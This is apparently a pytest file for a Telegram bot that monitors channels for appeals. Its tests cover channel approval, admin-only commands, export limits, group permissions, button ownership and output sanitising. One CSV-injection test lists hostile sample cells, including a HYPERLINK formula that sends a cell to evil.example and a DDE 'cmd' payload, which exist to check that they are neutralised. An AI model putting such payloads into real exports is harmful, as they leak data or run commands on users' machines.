"""Who may feed alerts, change a chat and pull the archive — each rule through the local Bot API over HTTP.

A stranger's channel is stored but alerts nobody until an admin approves it; config and
/watch channels are approved; /relabel, /publish and /export refuse non-admins; /export is
rate-limited and capped before writing; a private instance refuses a stranger once; in a
group only its admins change its alerts; a button works only in the chat (and for the
person) it belongs to; an admin's /relabel beats users' ✅/❌. And the hardening: CSV
formulas neutralised, control characters in posts never break an HTML message.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from bot.app import AnyApp
from bot.cli.model import feedback_examples
from bot.local_botapi import Call, LocalBotAPI
from handlers.common import GROUP_ADMINS_ONLY, NOT_YOURS, PRIVATE_REFUSAL
from models.classifier import AppealClassifier
from tests.botkit import (
    APPEALS,
    SHELLING_REPORTS,
    Channel,
    alert_post_id,
    alerts_to,
    button,
    command,
    eventually,
    post_and_settle,
    press,
    quiet,
    rows,
    running_bot,
    settle,
    shown,
    storage_of,
    subscribe,
)

ADMIN = 3001
USER = 3002  # a subscriber
OTHER = 3003  # another user
STRANGER = 3004  # someone the bot does not know
GROUP = -4003001
GROUP_ADMIN = 3005
MEMBER = 3006  # a group member who is not its admin

ADMINS_CHANNEL = Channel(-1003000000001, "admins_own_channel", "Admins' Own")
STRANGERS_CHANNEL = Channel(-1003000000002, "fake_appeals_channel", "Totally Real News")
SECOND_STRANGER = Channel(-1003000000003, "another_fake_channel", "Another One")

ASKED = "A channel added the bot"




def answer_text(call: Call) -> str:
    return str(call.params.get("text") or "")


async def approval_of(app: AnyApp, channel: Channel) -> str | None:
    access = await storage_of(app).channel_access(key=channel.username)
    return access.approval if access else None


async def wait_asked(api: LocalBotAPI, since: int) -> Call:
    return await api.wait_for(lambda c: c.method == "sendMessage" and c.chat_id == ADMIN and ASKED in shown(c),
                              10, since=since)


# -- channels: pending until an admin approves ------------------------------------------------------------


async def test_a_strangers_channel_is_stored_but_alerts_nobody_until_an_admin_approves_it(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,)) as app:
        storage = storage_of(app)
        await subscribe(api, USER)

        # a stranger makes the bot an admin of their channel: every admin is asked, nothing is watched for alerts
        since = api.mark()
        STRANGERS_CHANNEL.add_bot(api, by_user_id=STRANGER)
        question = await wait_asked(api, since)
        assert "@fake_appeals_channel" in shown(question) and str(STRANGER) in shown(question)
        assert [str(b.get("text")) for row in question.buttons for b in row] == ["✅ Approve", "⛔ Reject"]
        assert await approval_of(app, STRANGERS_CHANNEL) == "pending"

        # its "appeal" is stored and classified — nothing lost — but alerts nobody and is not in digests
        fake = await post_and_settle(api, app, STRANGERS_CHANNEL, 1, APPEALS[0][2])
        assert fake.appeal is True and fake.text == APPEALS[0][2]
        assert alerts_to(api, USER) == []
        assert await rows(app, "SELECT * FROM alerts") == []
        digest = await command(api, USER, "/digest 24h")
        assert "0 appeals" in shown(digest) and "Totally" not in shown(digest), shown(digest)
        listing = await command(api, USER, "/channels")
        assert "@fake_appeals_channel" in shown(listing) and "awaiting an admin's approval" in shown(listing)

        # a subscriber can't press the admin's button (another person's private chat), nor approve in their own
        answer = await press(api, USER, question, button(question, "✅ Approve"), check=False)
        assert answer_text(answer) == NOT_YOURS
        own = await command(api, USER, "/start")
        answer = await press(api, USER, own, button(question, "✅ Approve"), check=False)
        assert "Only admins" in answer_text(answer)
        assert await approval_of(app, STRANGERS_CHANNEL) == "pending"

        # the admin approves: new posts alert; the one stored while it waited never does
        since = api.mark()
        answer = await press(api, ADMIN, question, button(question, "✅ Approve"))
        assert answer_text(answer) == "Approved"
        edit = await api.wait_for(lambda c: c.method == "editMessageText" and c.chat_id == ADMIN, 10, since=since)
        assert edit.ok and "approved" in shown(edit)
        assert await approval_of(app, STRANGERS_CHANNEL) == "approved"
        await asyncio.sleep(1.1)  # first_seen is in whole seconds: the next post is seen after the approval's second
        later = await post_and_settle(api, app, STRANGERS_CHANNEL, 2, APPEALS[1][2])
        assert later.appeal is True
        assert [alert_post_id(c) for c in alerts_to(api, USER)] == [later.id]
        assert fake.id not in [pid for pid, _ in await storage.alerts_for_chat(USER)]
        digest = await command(api, USER, "/digest 24h")
        assert "2 appeals" in shown(digest), shown(digest)


async def test_a_rejected_channel_keeps_its_posts_and_never_alerts(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,)) as app:
        await subscribe(api, USER)
        since = api.mark()
        SECOND_STRANGER.add_bot(api, by_user_id=STRANGER)
        question = await wait_asked(api, since)
        answer = await press(api, ADMIN, question, button(question, "⛔ Reject"))
        assert answer_text(answer) == "Rejected"
        assert await approval_of(app, SECOND_STRANGER) == "rejected"
        post = await post_and_settle(api, app, SECOND_STRANGER, 5, APPEALS[6][2])
        assert post.appeal is True  # stored and classified
        assert alerts_to(api, USER) == []
        listing = await command(api, USER, "/channels")
        assert "another_fake_channel" not in shown(listing)
        # added again by the stranger: not asked again, still rejected
        since = api.mark()
        api.add_bot_to_channel(SECOND_STRANGER.id, SECOND_STRANGER.username, SECOND_STRANGER.title,
                               by_user_id=STRANGER, status="left")
        SECOND_STRANGER.add_bot(api, by_user_id=STRANGER)
        await quiet(api)
        assert not [c for c in api.calls[since:] if c.method == "sendMessage" and c.chat_id == ADMIN]
        assert await approval_of(app, SECOND_STRANGER) == "rejected"


async def test_channels_of_admins_the_config_and_watch_are_approved(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,),
                                                 channels=("configured_channel",)) as app:
        storage = storage_of(app)
        assert (await storage.channel_access(key="configured_channel")).approval == "approved"  # type: ignore[union-attr]
        reply = await command(api, ADMIN, "/watch @watched_by_admin")
        assert "Watching" in shown(reply)
        assert (await storage.channel_access(key="watched_by_admin")).approval == "approved"  # type: ignore[union-attr]

        # an admin who adds the bot to their channel is not asked: it alerts at once
        await subscribe(api, USER)
        since = api.mark()
        ADMINS_CHANNEL.add_bot(api, by_user_id=ADMIN)
        await eventually(lambda: _approved(app, ADMINS_CHANNEL), 10, "the admin's channel was never approved")
        post = await post_and_settle(api, app, ADMINS_CHANNEL, 1, APPEALS[2][2])
        assert [alert_post_id(c) for c in alerts_to(api, USER)] == [post.id]
        assert not [c for c in api.calls[since:] if c.method == "sendMessage" and ASKED in shown(c)]

        # a post forwarded from a channel nobody approved answers the forwarder and alerts nobody else
        since = api.mark()
        api.forward_from_channel(OTHER, STRANGERS_CHANNEL.id, STRANGERS_CHANNEL.username, STRANGERS_CHANNEL.title, 9,
                                 APPEALS[3][2])
        answer = await api.wait_for(lambda c: c.method == "sendMessage" and c.chat_id == OTHER, 60, since=since)
        assert shown(answer).startswith("🚨 appeal:"), shown(answer)
        await settle(app)
        assert [alert_post_id(c) for c in alerts_to(api, USER)] == [post.id]
        assert await approval_of(app, STRANGERS_CHANNEL) == "pending"


async def _approved(app: AnyApp, channel: Channel) -> bool:
    return await approval_of(app, channel) == "approved"


# -- admin commands, /export ----------------------------------------------------------------------------------


async def test_non_admins_cannot_relabel_publish_or_export(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,)) as app:
        ADMINS_CHANNEL.add_bot(api, by_user_id=ADMIN)
        post = await post_and_settle(api, app, ADMINS_CHANNEL, 1, APPEALS[0][2])
        since = api.mark()
        for text in (f"/relabel {post.id} none", "/publish @some_channel 24h", "/export", "/export label:surrender"):
            reply = await command(api, USER, text)
            assert "Only admins" in shown(reply), f"{text} → {shown(reply)}"
        await quiet(api)
        assert not [c for c in api.calls[since:] if c.method in ("sendDocument", "sendPhoto")]
        assert await rows(app, "SELECT * FROM feedback") == []
        assert [c for c in api.calls[since:] if c.method == "sendMessage" and c.chat_id != USER] == []


async def test_export_is_capped_before_writing_rate_limited_and_can_be_opened(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,), export_max_rows=3,
                                                 export="allowed") as app:
        ADMINS_CHANNEL.add_bot(api, by_user_id=ADMIN)
        for i, text in enumerate(SHELLING_REPORTS[:5]):
            await post_and_settle(api, app, ADMINS_CHANNEL, 10 + i, text)

        # over the cap: refused with advice, nothing written or sent
        since = api.mark()
        reply = await command(api, USER, "/export")
        assert "more than 3 posts" in shown(reply) and "label:" in shown(reply), shown(reply)
        # narrowed under the cap: sent ([access] export = "allowed" opens it to users)
        api.send_user_message(USER, "/export Херсона")
        docs = await api.wait_for_count("sendDocument", 2, 30, chat_id=USER, since=since)
        assert all(d.ok for d in docs)
        # one export a minute per user
        reply = await command(api, USER, "/export Харкова")
        assert "try again in" in shown(reply), shown(reply)
        await quiet(api)
        assert len([c for c in api.calls[since:] if c.method == "sendDocument"]) == 2
        # another user has their own allowance
        api.send_user_message(OTHER, "/export Харкова")
        await api.wait_for_count("sendDocument", 2, 30, chat_id=OTHER, since=since)


async def test_csv_cells_that_look_like_formulas_are_neutralised(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    texts = {1: '=HYPERLINK("http://evil.example/?q="&A1, "click")', 2: "+380 44 000 00 00 гаряча лінія",
             3: "-2+3 тест", 4: "@SUM(1+1)*cmd|' /C calc'!A0", 5: "\tTab first", 6: "Звичайний текст = без формули"}
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,)) as app:
        ADMINS_CHANNEL.add_bot(api, by_user_id=ADMIN)
        for mid, text in texts.items():
            await post_and_settle(api, app, ADMINS_CHANNEL, mid, text)
        since = api.mark()
        api.send_user_message(ADMIN, "/export")
        docs = await api.wait_for_count("sendDocument", 2, 30, chat_id=ADMIN, since=since)
        files = {f.filename: f.data for d in docs for f in d.files.values()}
        table = list(csv.DictReader(io.StringIO(files["appealwatch-export.csv"].decode("utf-8"))))
        items = json.loads(files["appealwatch-export.json"].decode("utf-8"))
        by_link = {r["permalink"]: r["text"] for r in table}
        for mid, text in texts.items():
            cell = by_link[ADMINS_CHANNEL.link(mid)]
            assert cell == ("'" + text if text[0] in "=+-@\t" else text), (mid, cell)
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert {i["text"] for i in items} == set(texts.values())  # JSON keeps the evidence verbatim


# -- private instance ------------------------------------------------------------------------------------------


async def test_a_private_instance_refuses_a_stranger_once_and_does_nothing_else(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,),
                                                 allowed_users=(USER,)) as app:
        storage = storage_of(app)
        reply = await command(api, USER, "/start")
        assert "/subscribe" in shown(reply)
        assert "/subscribe" in shown(await command(api, ADMIN, "/help"))  # admins are always allowed

        since = api.mark()
        refusal = await command(api, STRANGER, "/start")
        assert shown(refusal) == PRIVATE_REFUSAL
        for text in ("/subscribe", "/search обстріл", "/export", "/settings quiet 23:00-07:00", "hello", "/start"):
            api.send_user_message(STRANGER, text)
        api.forward_from_channel(STRANGER, ADMINS_CHANNEL.id, ADMINS_CHANNEL.username, ADMINS_CHANNEL.title, 3,
                                 APPEALS[0][2])
        # a button press gets the refusal as a pop-up, no message
        answer = await press(api, STRANGER, refusal, "set:q:off", check=False)
        assert "private" in answer_text(answer) and answer.params.get("show_alert") is True
        await quiet(api)
        to_stranger = [c for c in api.calls[since:] if c.method != "getUpdates" and c.chat_id == STRANGER]
        assert [c.method for c in to_stranger] == ["sendMessage"]  # the one refusal, nothing else
        assert await storage.chat_settings(STRANGER) is None
        assert await storage.count_posts() == 0  # the forwarded post was not even stored

        # an allowed user still gets everything
        reply = await command(api, USER, "/subscribe")
        assert "Subscribed" in shown(reply)


# -- groups ------------------------------------------------------------------------------------------------------


async def test_in_a_group_only_its_admins_change_its_alerts_and_settings(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier) as app:
        storage = storage_of(app)
        api.set_member(GROUP, GROUP_ADMIN, "administrator")
        api.set_member(GROUP, MEMBER, "member")

        def in_group(user: int, text: str) -> Any:
            return command(api, user, text, chat_id=GROUP, chat_type="group")

        for text in ("/subscribe", "/subscribe surrender", "/settings quiet 23:00-07:00", "/settings digest daily"):
            reply = await in_group(MEMBER, text)
            assert shown(reply) == GROUP_ADMINS_ONLY, f"{text} → {shown(reply)}"
        assert (await storage.chat_settings(GROUP)) is None or (await storage.chat_settings(GROUP)).filters is None  # type: ignore[union-attr]

        keyboard = await in_group(GROUP_ADMIN, "/subscribe")
        assert "Subscribed" in shown(keyboard)
        assert shown(await in_group(MEMBER, "/unsubscribe")) == GROUP_ADMINS_ONLY
        view = await in_group(MEMBER, "/settings")  # reading is for everyone
        assert "Settings" in shown(view)

        # the keyboards: a member's press is refused, an admin's works
        answer = await press(api, MEMBER, keyboard, "sub:l:surrender")
        assert answer_text(answer) == GROUP_ADMINS_ONLY
        answer = await press(api, MEMBER, view, "set:d:daily")
        assert answer_text(answer) == GROUP_ADMINS_ONLY
        settings = await storage.chat_settings(GROUP)
        assert settings is not None and settings.filters is not None and settings.filters.labels == ()
        assert settings.digest_mode == "off"
        answer = await press(api, GROUP_ADMIN, view, "set:d:daily")
        assert answer_text(answer) == "Saved"
        assert (await storage.chat_settings(GROUP)).digest_mode == "daily"  # type: ignore[union-attr]

        # 🔕 under a group's alert: its admins only; ✅/❌ is anyone's opinion
        ADMINS_CHANNEL.add_bot(api, by_user_id=GROUP_ADMIN)
        post = await post_and_settle(api, app, ADMINS_CHANNEL, 1, APPEALS[4][2])
        [alert] = alerts_to(api, GROUP)
        answer = await press(api, MEMBER, alert, f"mute:{post.id}")
        assert answer_text(answer) == GROUP_ADMINS_ONLY
        assert (await storage.chat_settings(GROUP)).muted == ()  # type: ignore[union-attr]
        answer = await press(api, MEMBER, alert, f"fb:ok:{post.id}")
        assert "Thanks" in answer_text(answer)
        since = api.mark()
        answer = await press(api, GROUP_ADMIN, alert, f"mute:{post.id}")
        assert "Muted" in answer_text(answer)
        # (the note comes after the answer; PTB's limiter spaces out messages to one group)
        await api.wait_for(lambda c: c.method == "sendMessage" and "Muted" in shown(c), 30, since=since)
        assert (await storage.chat_settings(GROUP)).muted == (ADMINS_CHANNEL.username,)  # type: ignore[union-attr]
        assert shown(await in_group(GROUP_ADMIN, "/unsubscribe")).startswith("🔕 Unsubscribed")


# -- buttons belong to a chat and a person -----------------------------------------------------------------------


async def test_buttons_work_only_in_their_own_chat_and_for_their_own_person(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier) as app:
        storage = storage_of(app)
        await subscribe(api, USER)
        ADMINS_CHANNEL.add_bot(api, by_user_id=USER)
        for i, text in enumerate(SHELLING_REPORTS[:6]):
            await post_and_settle(api, app, ADMINS_CHANNEL, 20 + i, text)
        post = await post_and_settle(api, app, ADMINS_CHANNEL, 30, APPEALS[0][2])
        assert post.appeal is True
        [alert] = alerts_to(api, USER)
        results = await command(api, USER, "/search обстріл")
        next_page = button(results, "Next ▶")
        others = await command(api, OTHER, "/settings")  # a message of the bot in OTHER's chat

        since = api.mark()
        # USER's search token, pressed in OTHER's chat: expired there
        answer = await press(api, OTHER, others, next_page, check=False)
        assert "expired" in answer_text(answer)
        # feedback and mute on a post OTHER never got an alert about
        for data in (f"fb:ok:{post.id}", f"fb:no:{post.id}", f"mute:{post.id}"):
            answer = await press(api, OTHER, others, data, check=False)
            assert answer_text(answer) == NOT_YOURS, data
        # OTHER pressing buttons on a message in USER's private chat
        for data in (f"fb:no:{post.id}", f"mute:{post.id}", "set:q:23:00-07:00", "sub:l:pow", next_page):
            answer = await press(api, OTHER, alert, data, check=False)
            assert answer_text(answer) == NOT_YOURS, data
        await quiet(api)
        assert not [c for c in api.calls[since:] if c.method in ("editMessageText", "sendMessage")]
        assert await storage.feedback_rows() == []
        settings = await storage.chat_settings(USER)
        assert settings is not None and settings.muted == () and settings.quiet_start is None
        # the owner's own buttons still work
        answer = await press(api, USER, results, next_page)
        assert answer.ok and "expired" not in answer_text(answer)


async def test_an_admins_relabel_beats_users_feedback_before_and_after(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier, admins=(ADMIN,)) as app:
        storage = storage_of(app)
        await subscribe(api, USER)
        ADMINS_CHANNEL.add_bot(api, by_user_id=ADMIN)
        post = await post_and_settle(api, app, ADMINS_CHANNEL, 1, APPEALS[3][2])
        [alert] = alerts_to(api, USER)
        await press(api, USER, alert, f"fb:ok:{post.id}")
        reply = await command(api, ADMIN, f"/relabel {post.id} pow")
        assert "Recorded" in shown(reply)
        await press(api, USER, alert, f"fb:no:{post.id}")  # later than the admin's, still loses
        verdicts = [(r["verdict"], bool(r["by_admin"])) for r in await storage.feedback_rows()]
        assert verdicts == [("correct", False), ("not_appeal", False), ("relabel", True)]
        [example] = await feedback_examples(storage.sqlite_path)  # what `appealwatch train --with-feedback` learns
        assert example.labels == ("pow",) and example.appeal is True


# -- hardening: control characters --------------------------------------------------------------------------------


async def test_control_characters_in_posts_never_break_html_messages(
    tmp_path: Path, classifier: AppealClassifier, errors: pytest.LogCaptureFixture
) -> None:
    nasty = ("Обстріл \x03Херсона\x02 вночі: \x00\x01\x07\x1b[31mпошкоджено\x7f\x85 будинки </b><i> & «R&D»"
             "\x02\x02 загиблих немає\u2028\r")
    appeal = APPEALS[0][2].replace("Сдавайтесь", "Сдавайтесь\x03\x02\x00")
    async with LocalBotAPI() as api, running_bot(tmp_path, api, classifier) as app:
        await subscribe(api, USER)
        ADMINS_CHANNEL.add_bot(api, by_user_id=USER)
        await post_and_settle(api, app, ADMINS_CHANNEL, 1, nasty)
        alerted = await post_and_settle(api, app, ADMINS_CHANNEL, 2, appeal)
        assert alerted.text == appeal  # stored verbatim (evidence); only what is shown is cleaned
        [alert] = alerts_to(api, USER)
        assert alert.ok and "\x00" not in (alert.text or "") and "\x02" not in (alert.text or "")
        for query in ("/search Херсона", "/search пошкоджено", "/search сдавайтесь", "/search R&D <i>"):
            reply = await command(api, USER, query)  # command() asserts the server accepted the HTML
            assert shown(reply).startswith("🔍"), f"{query} → {shown(reply)}"
            assert not any(ch in (reply.text or "") for ch in "\x00\x01\x02\x03\x07\x1b\x7f\x85")
        reply = await command(api, USER, "/search Херсона")
        assert "<b>Херсона</b>" in (reply.text or ""), reply.text
        digest = await command(api, USER, "/digest 24h")
        assert digest.ok and "\x00" not in (digest.text or "")
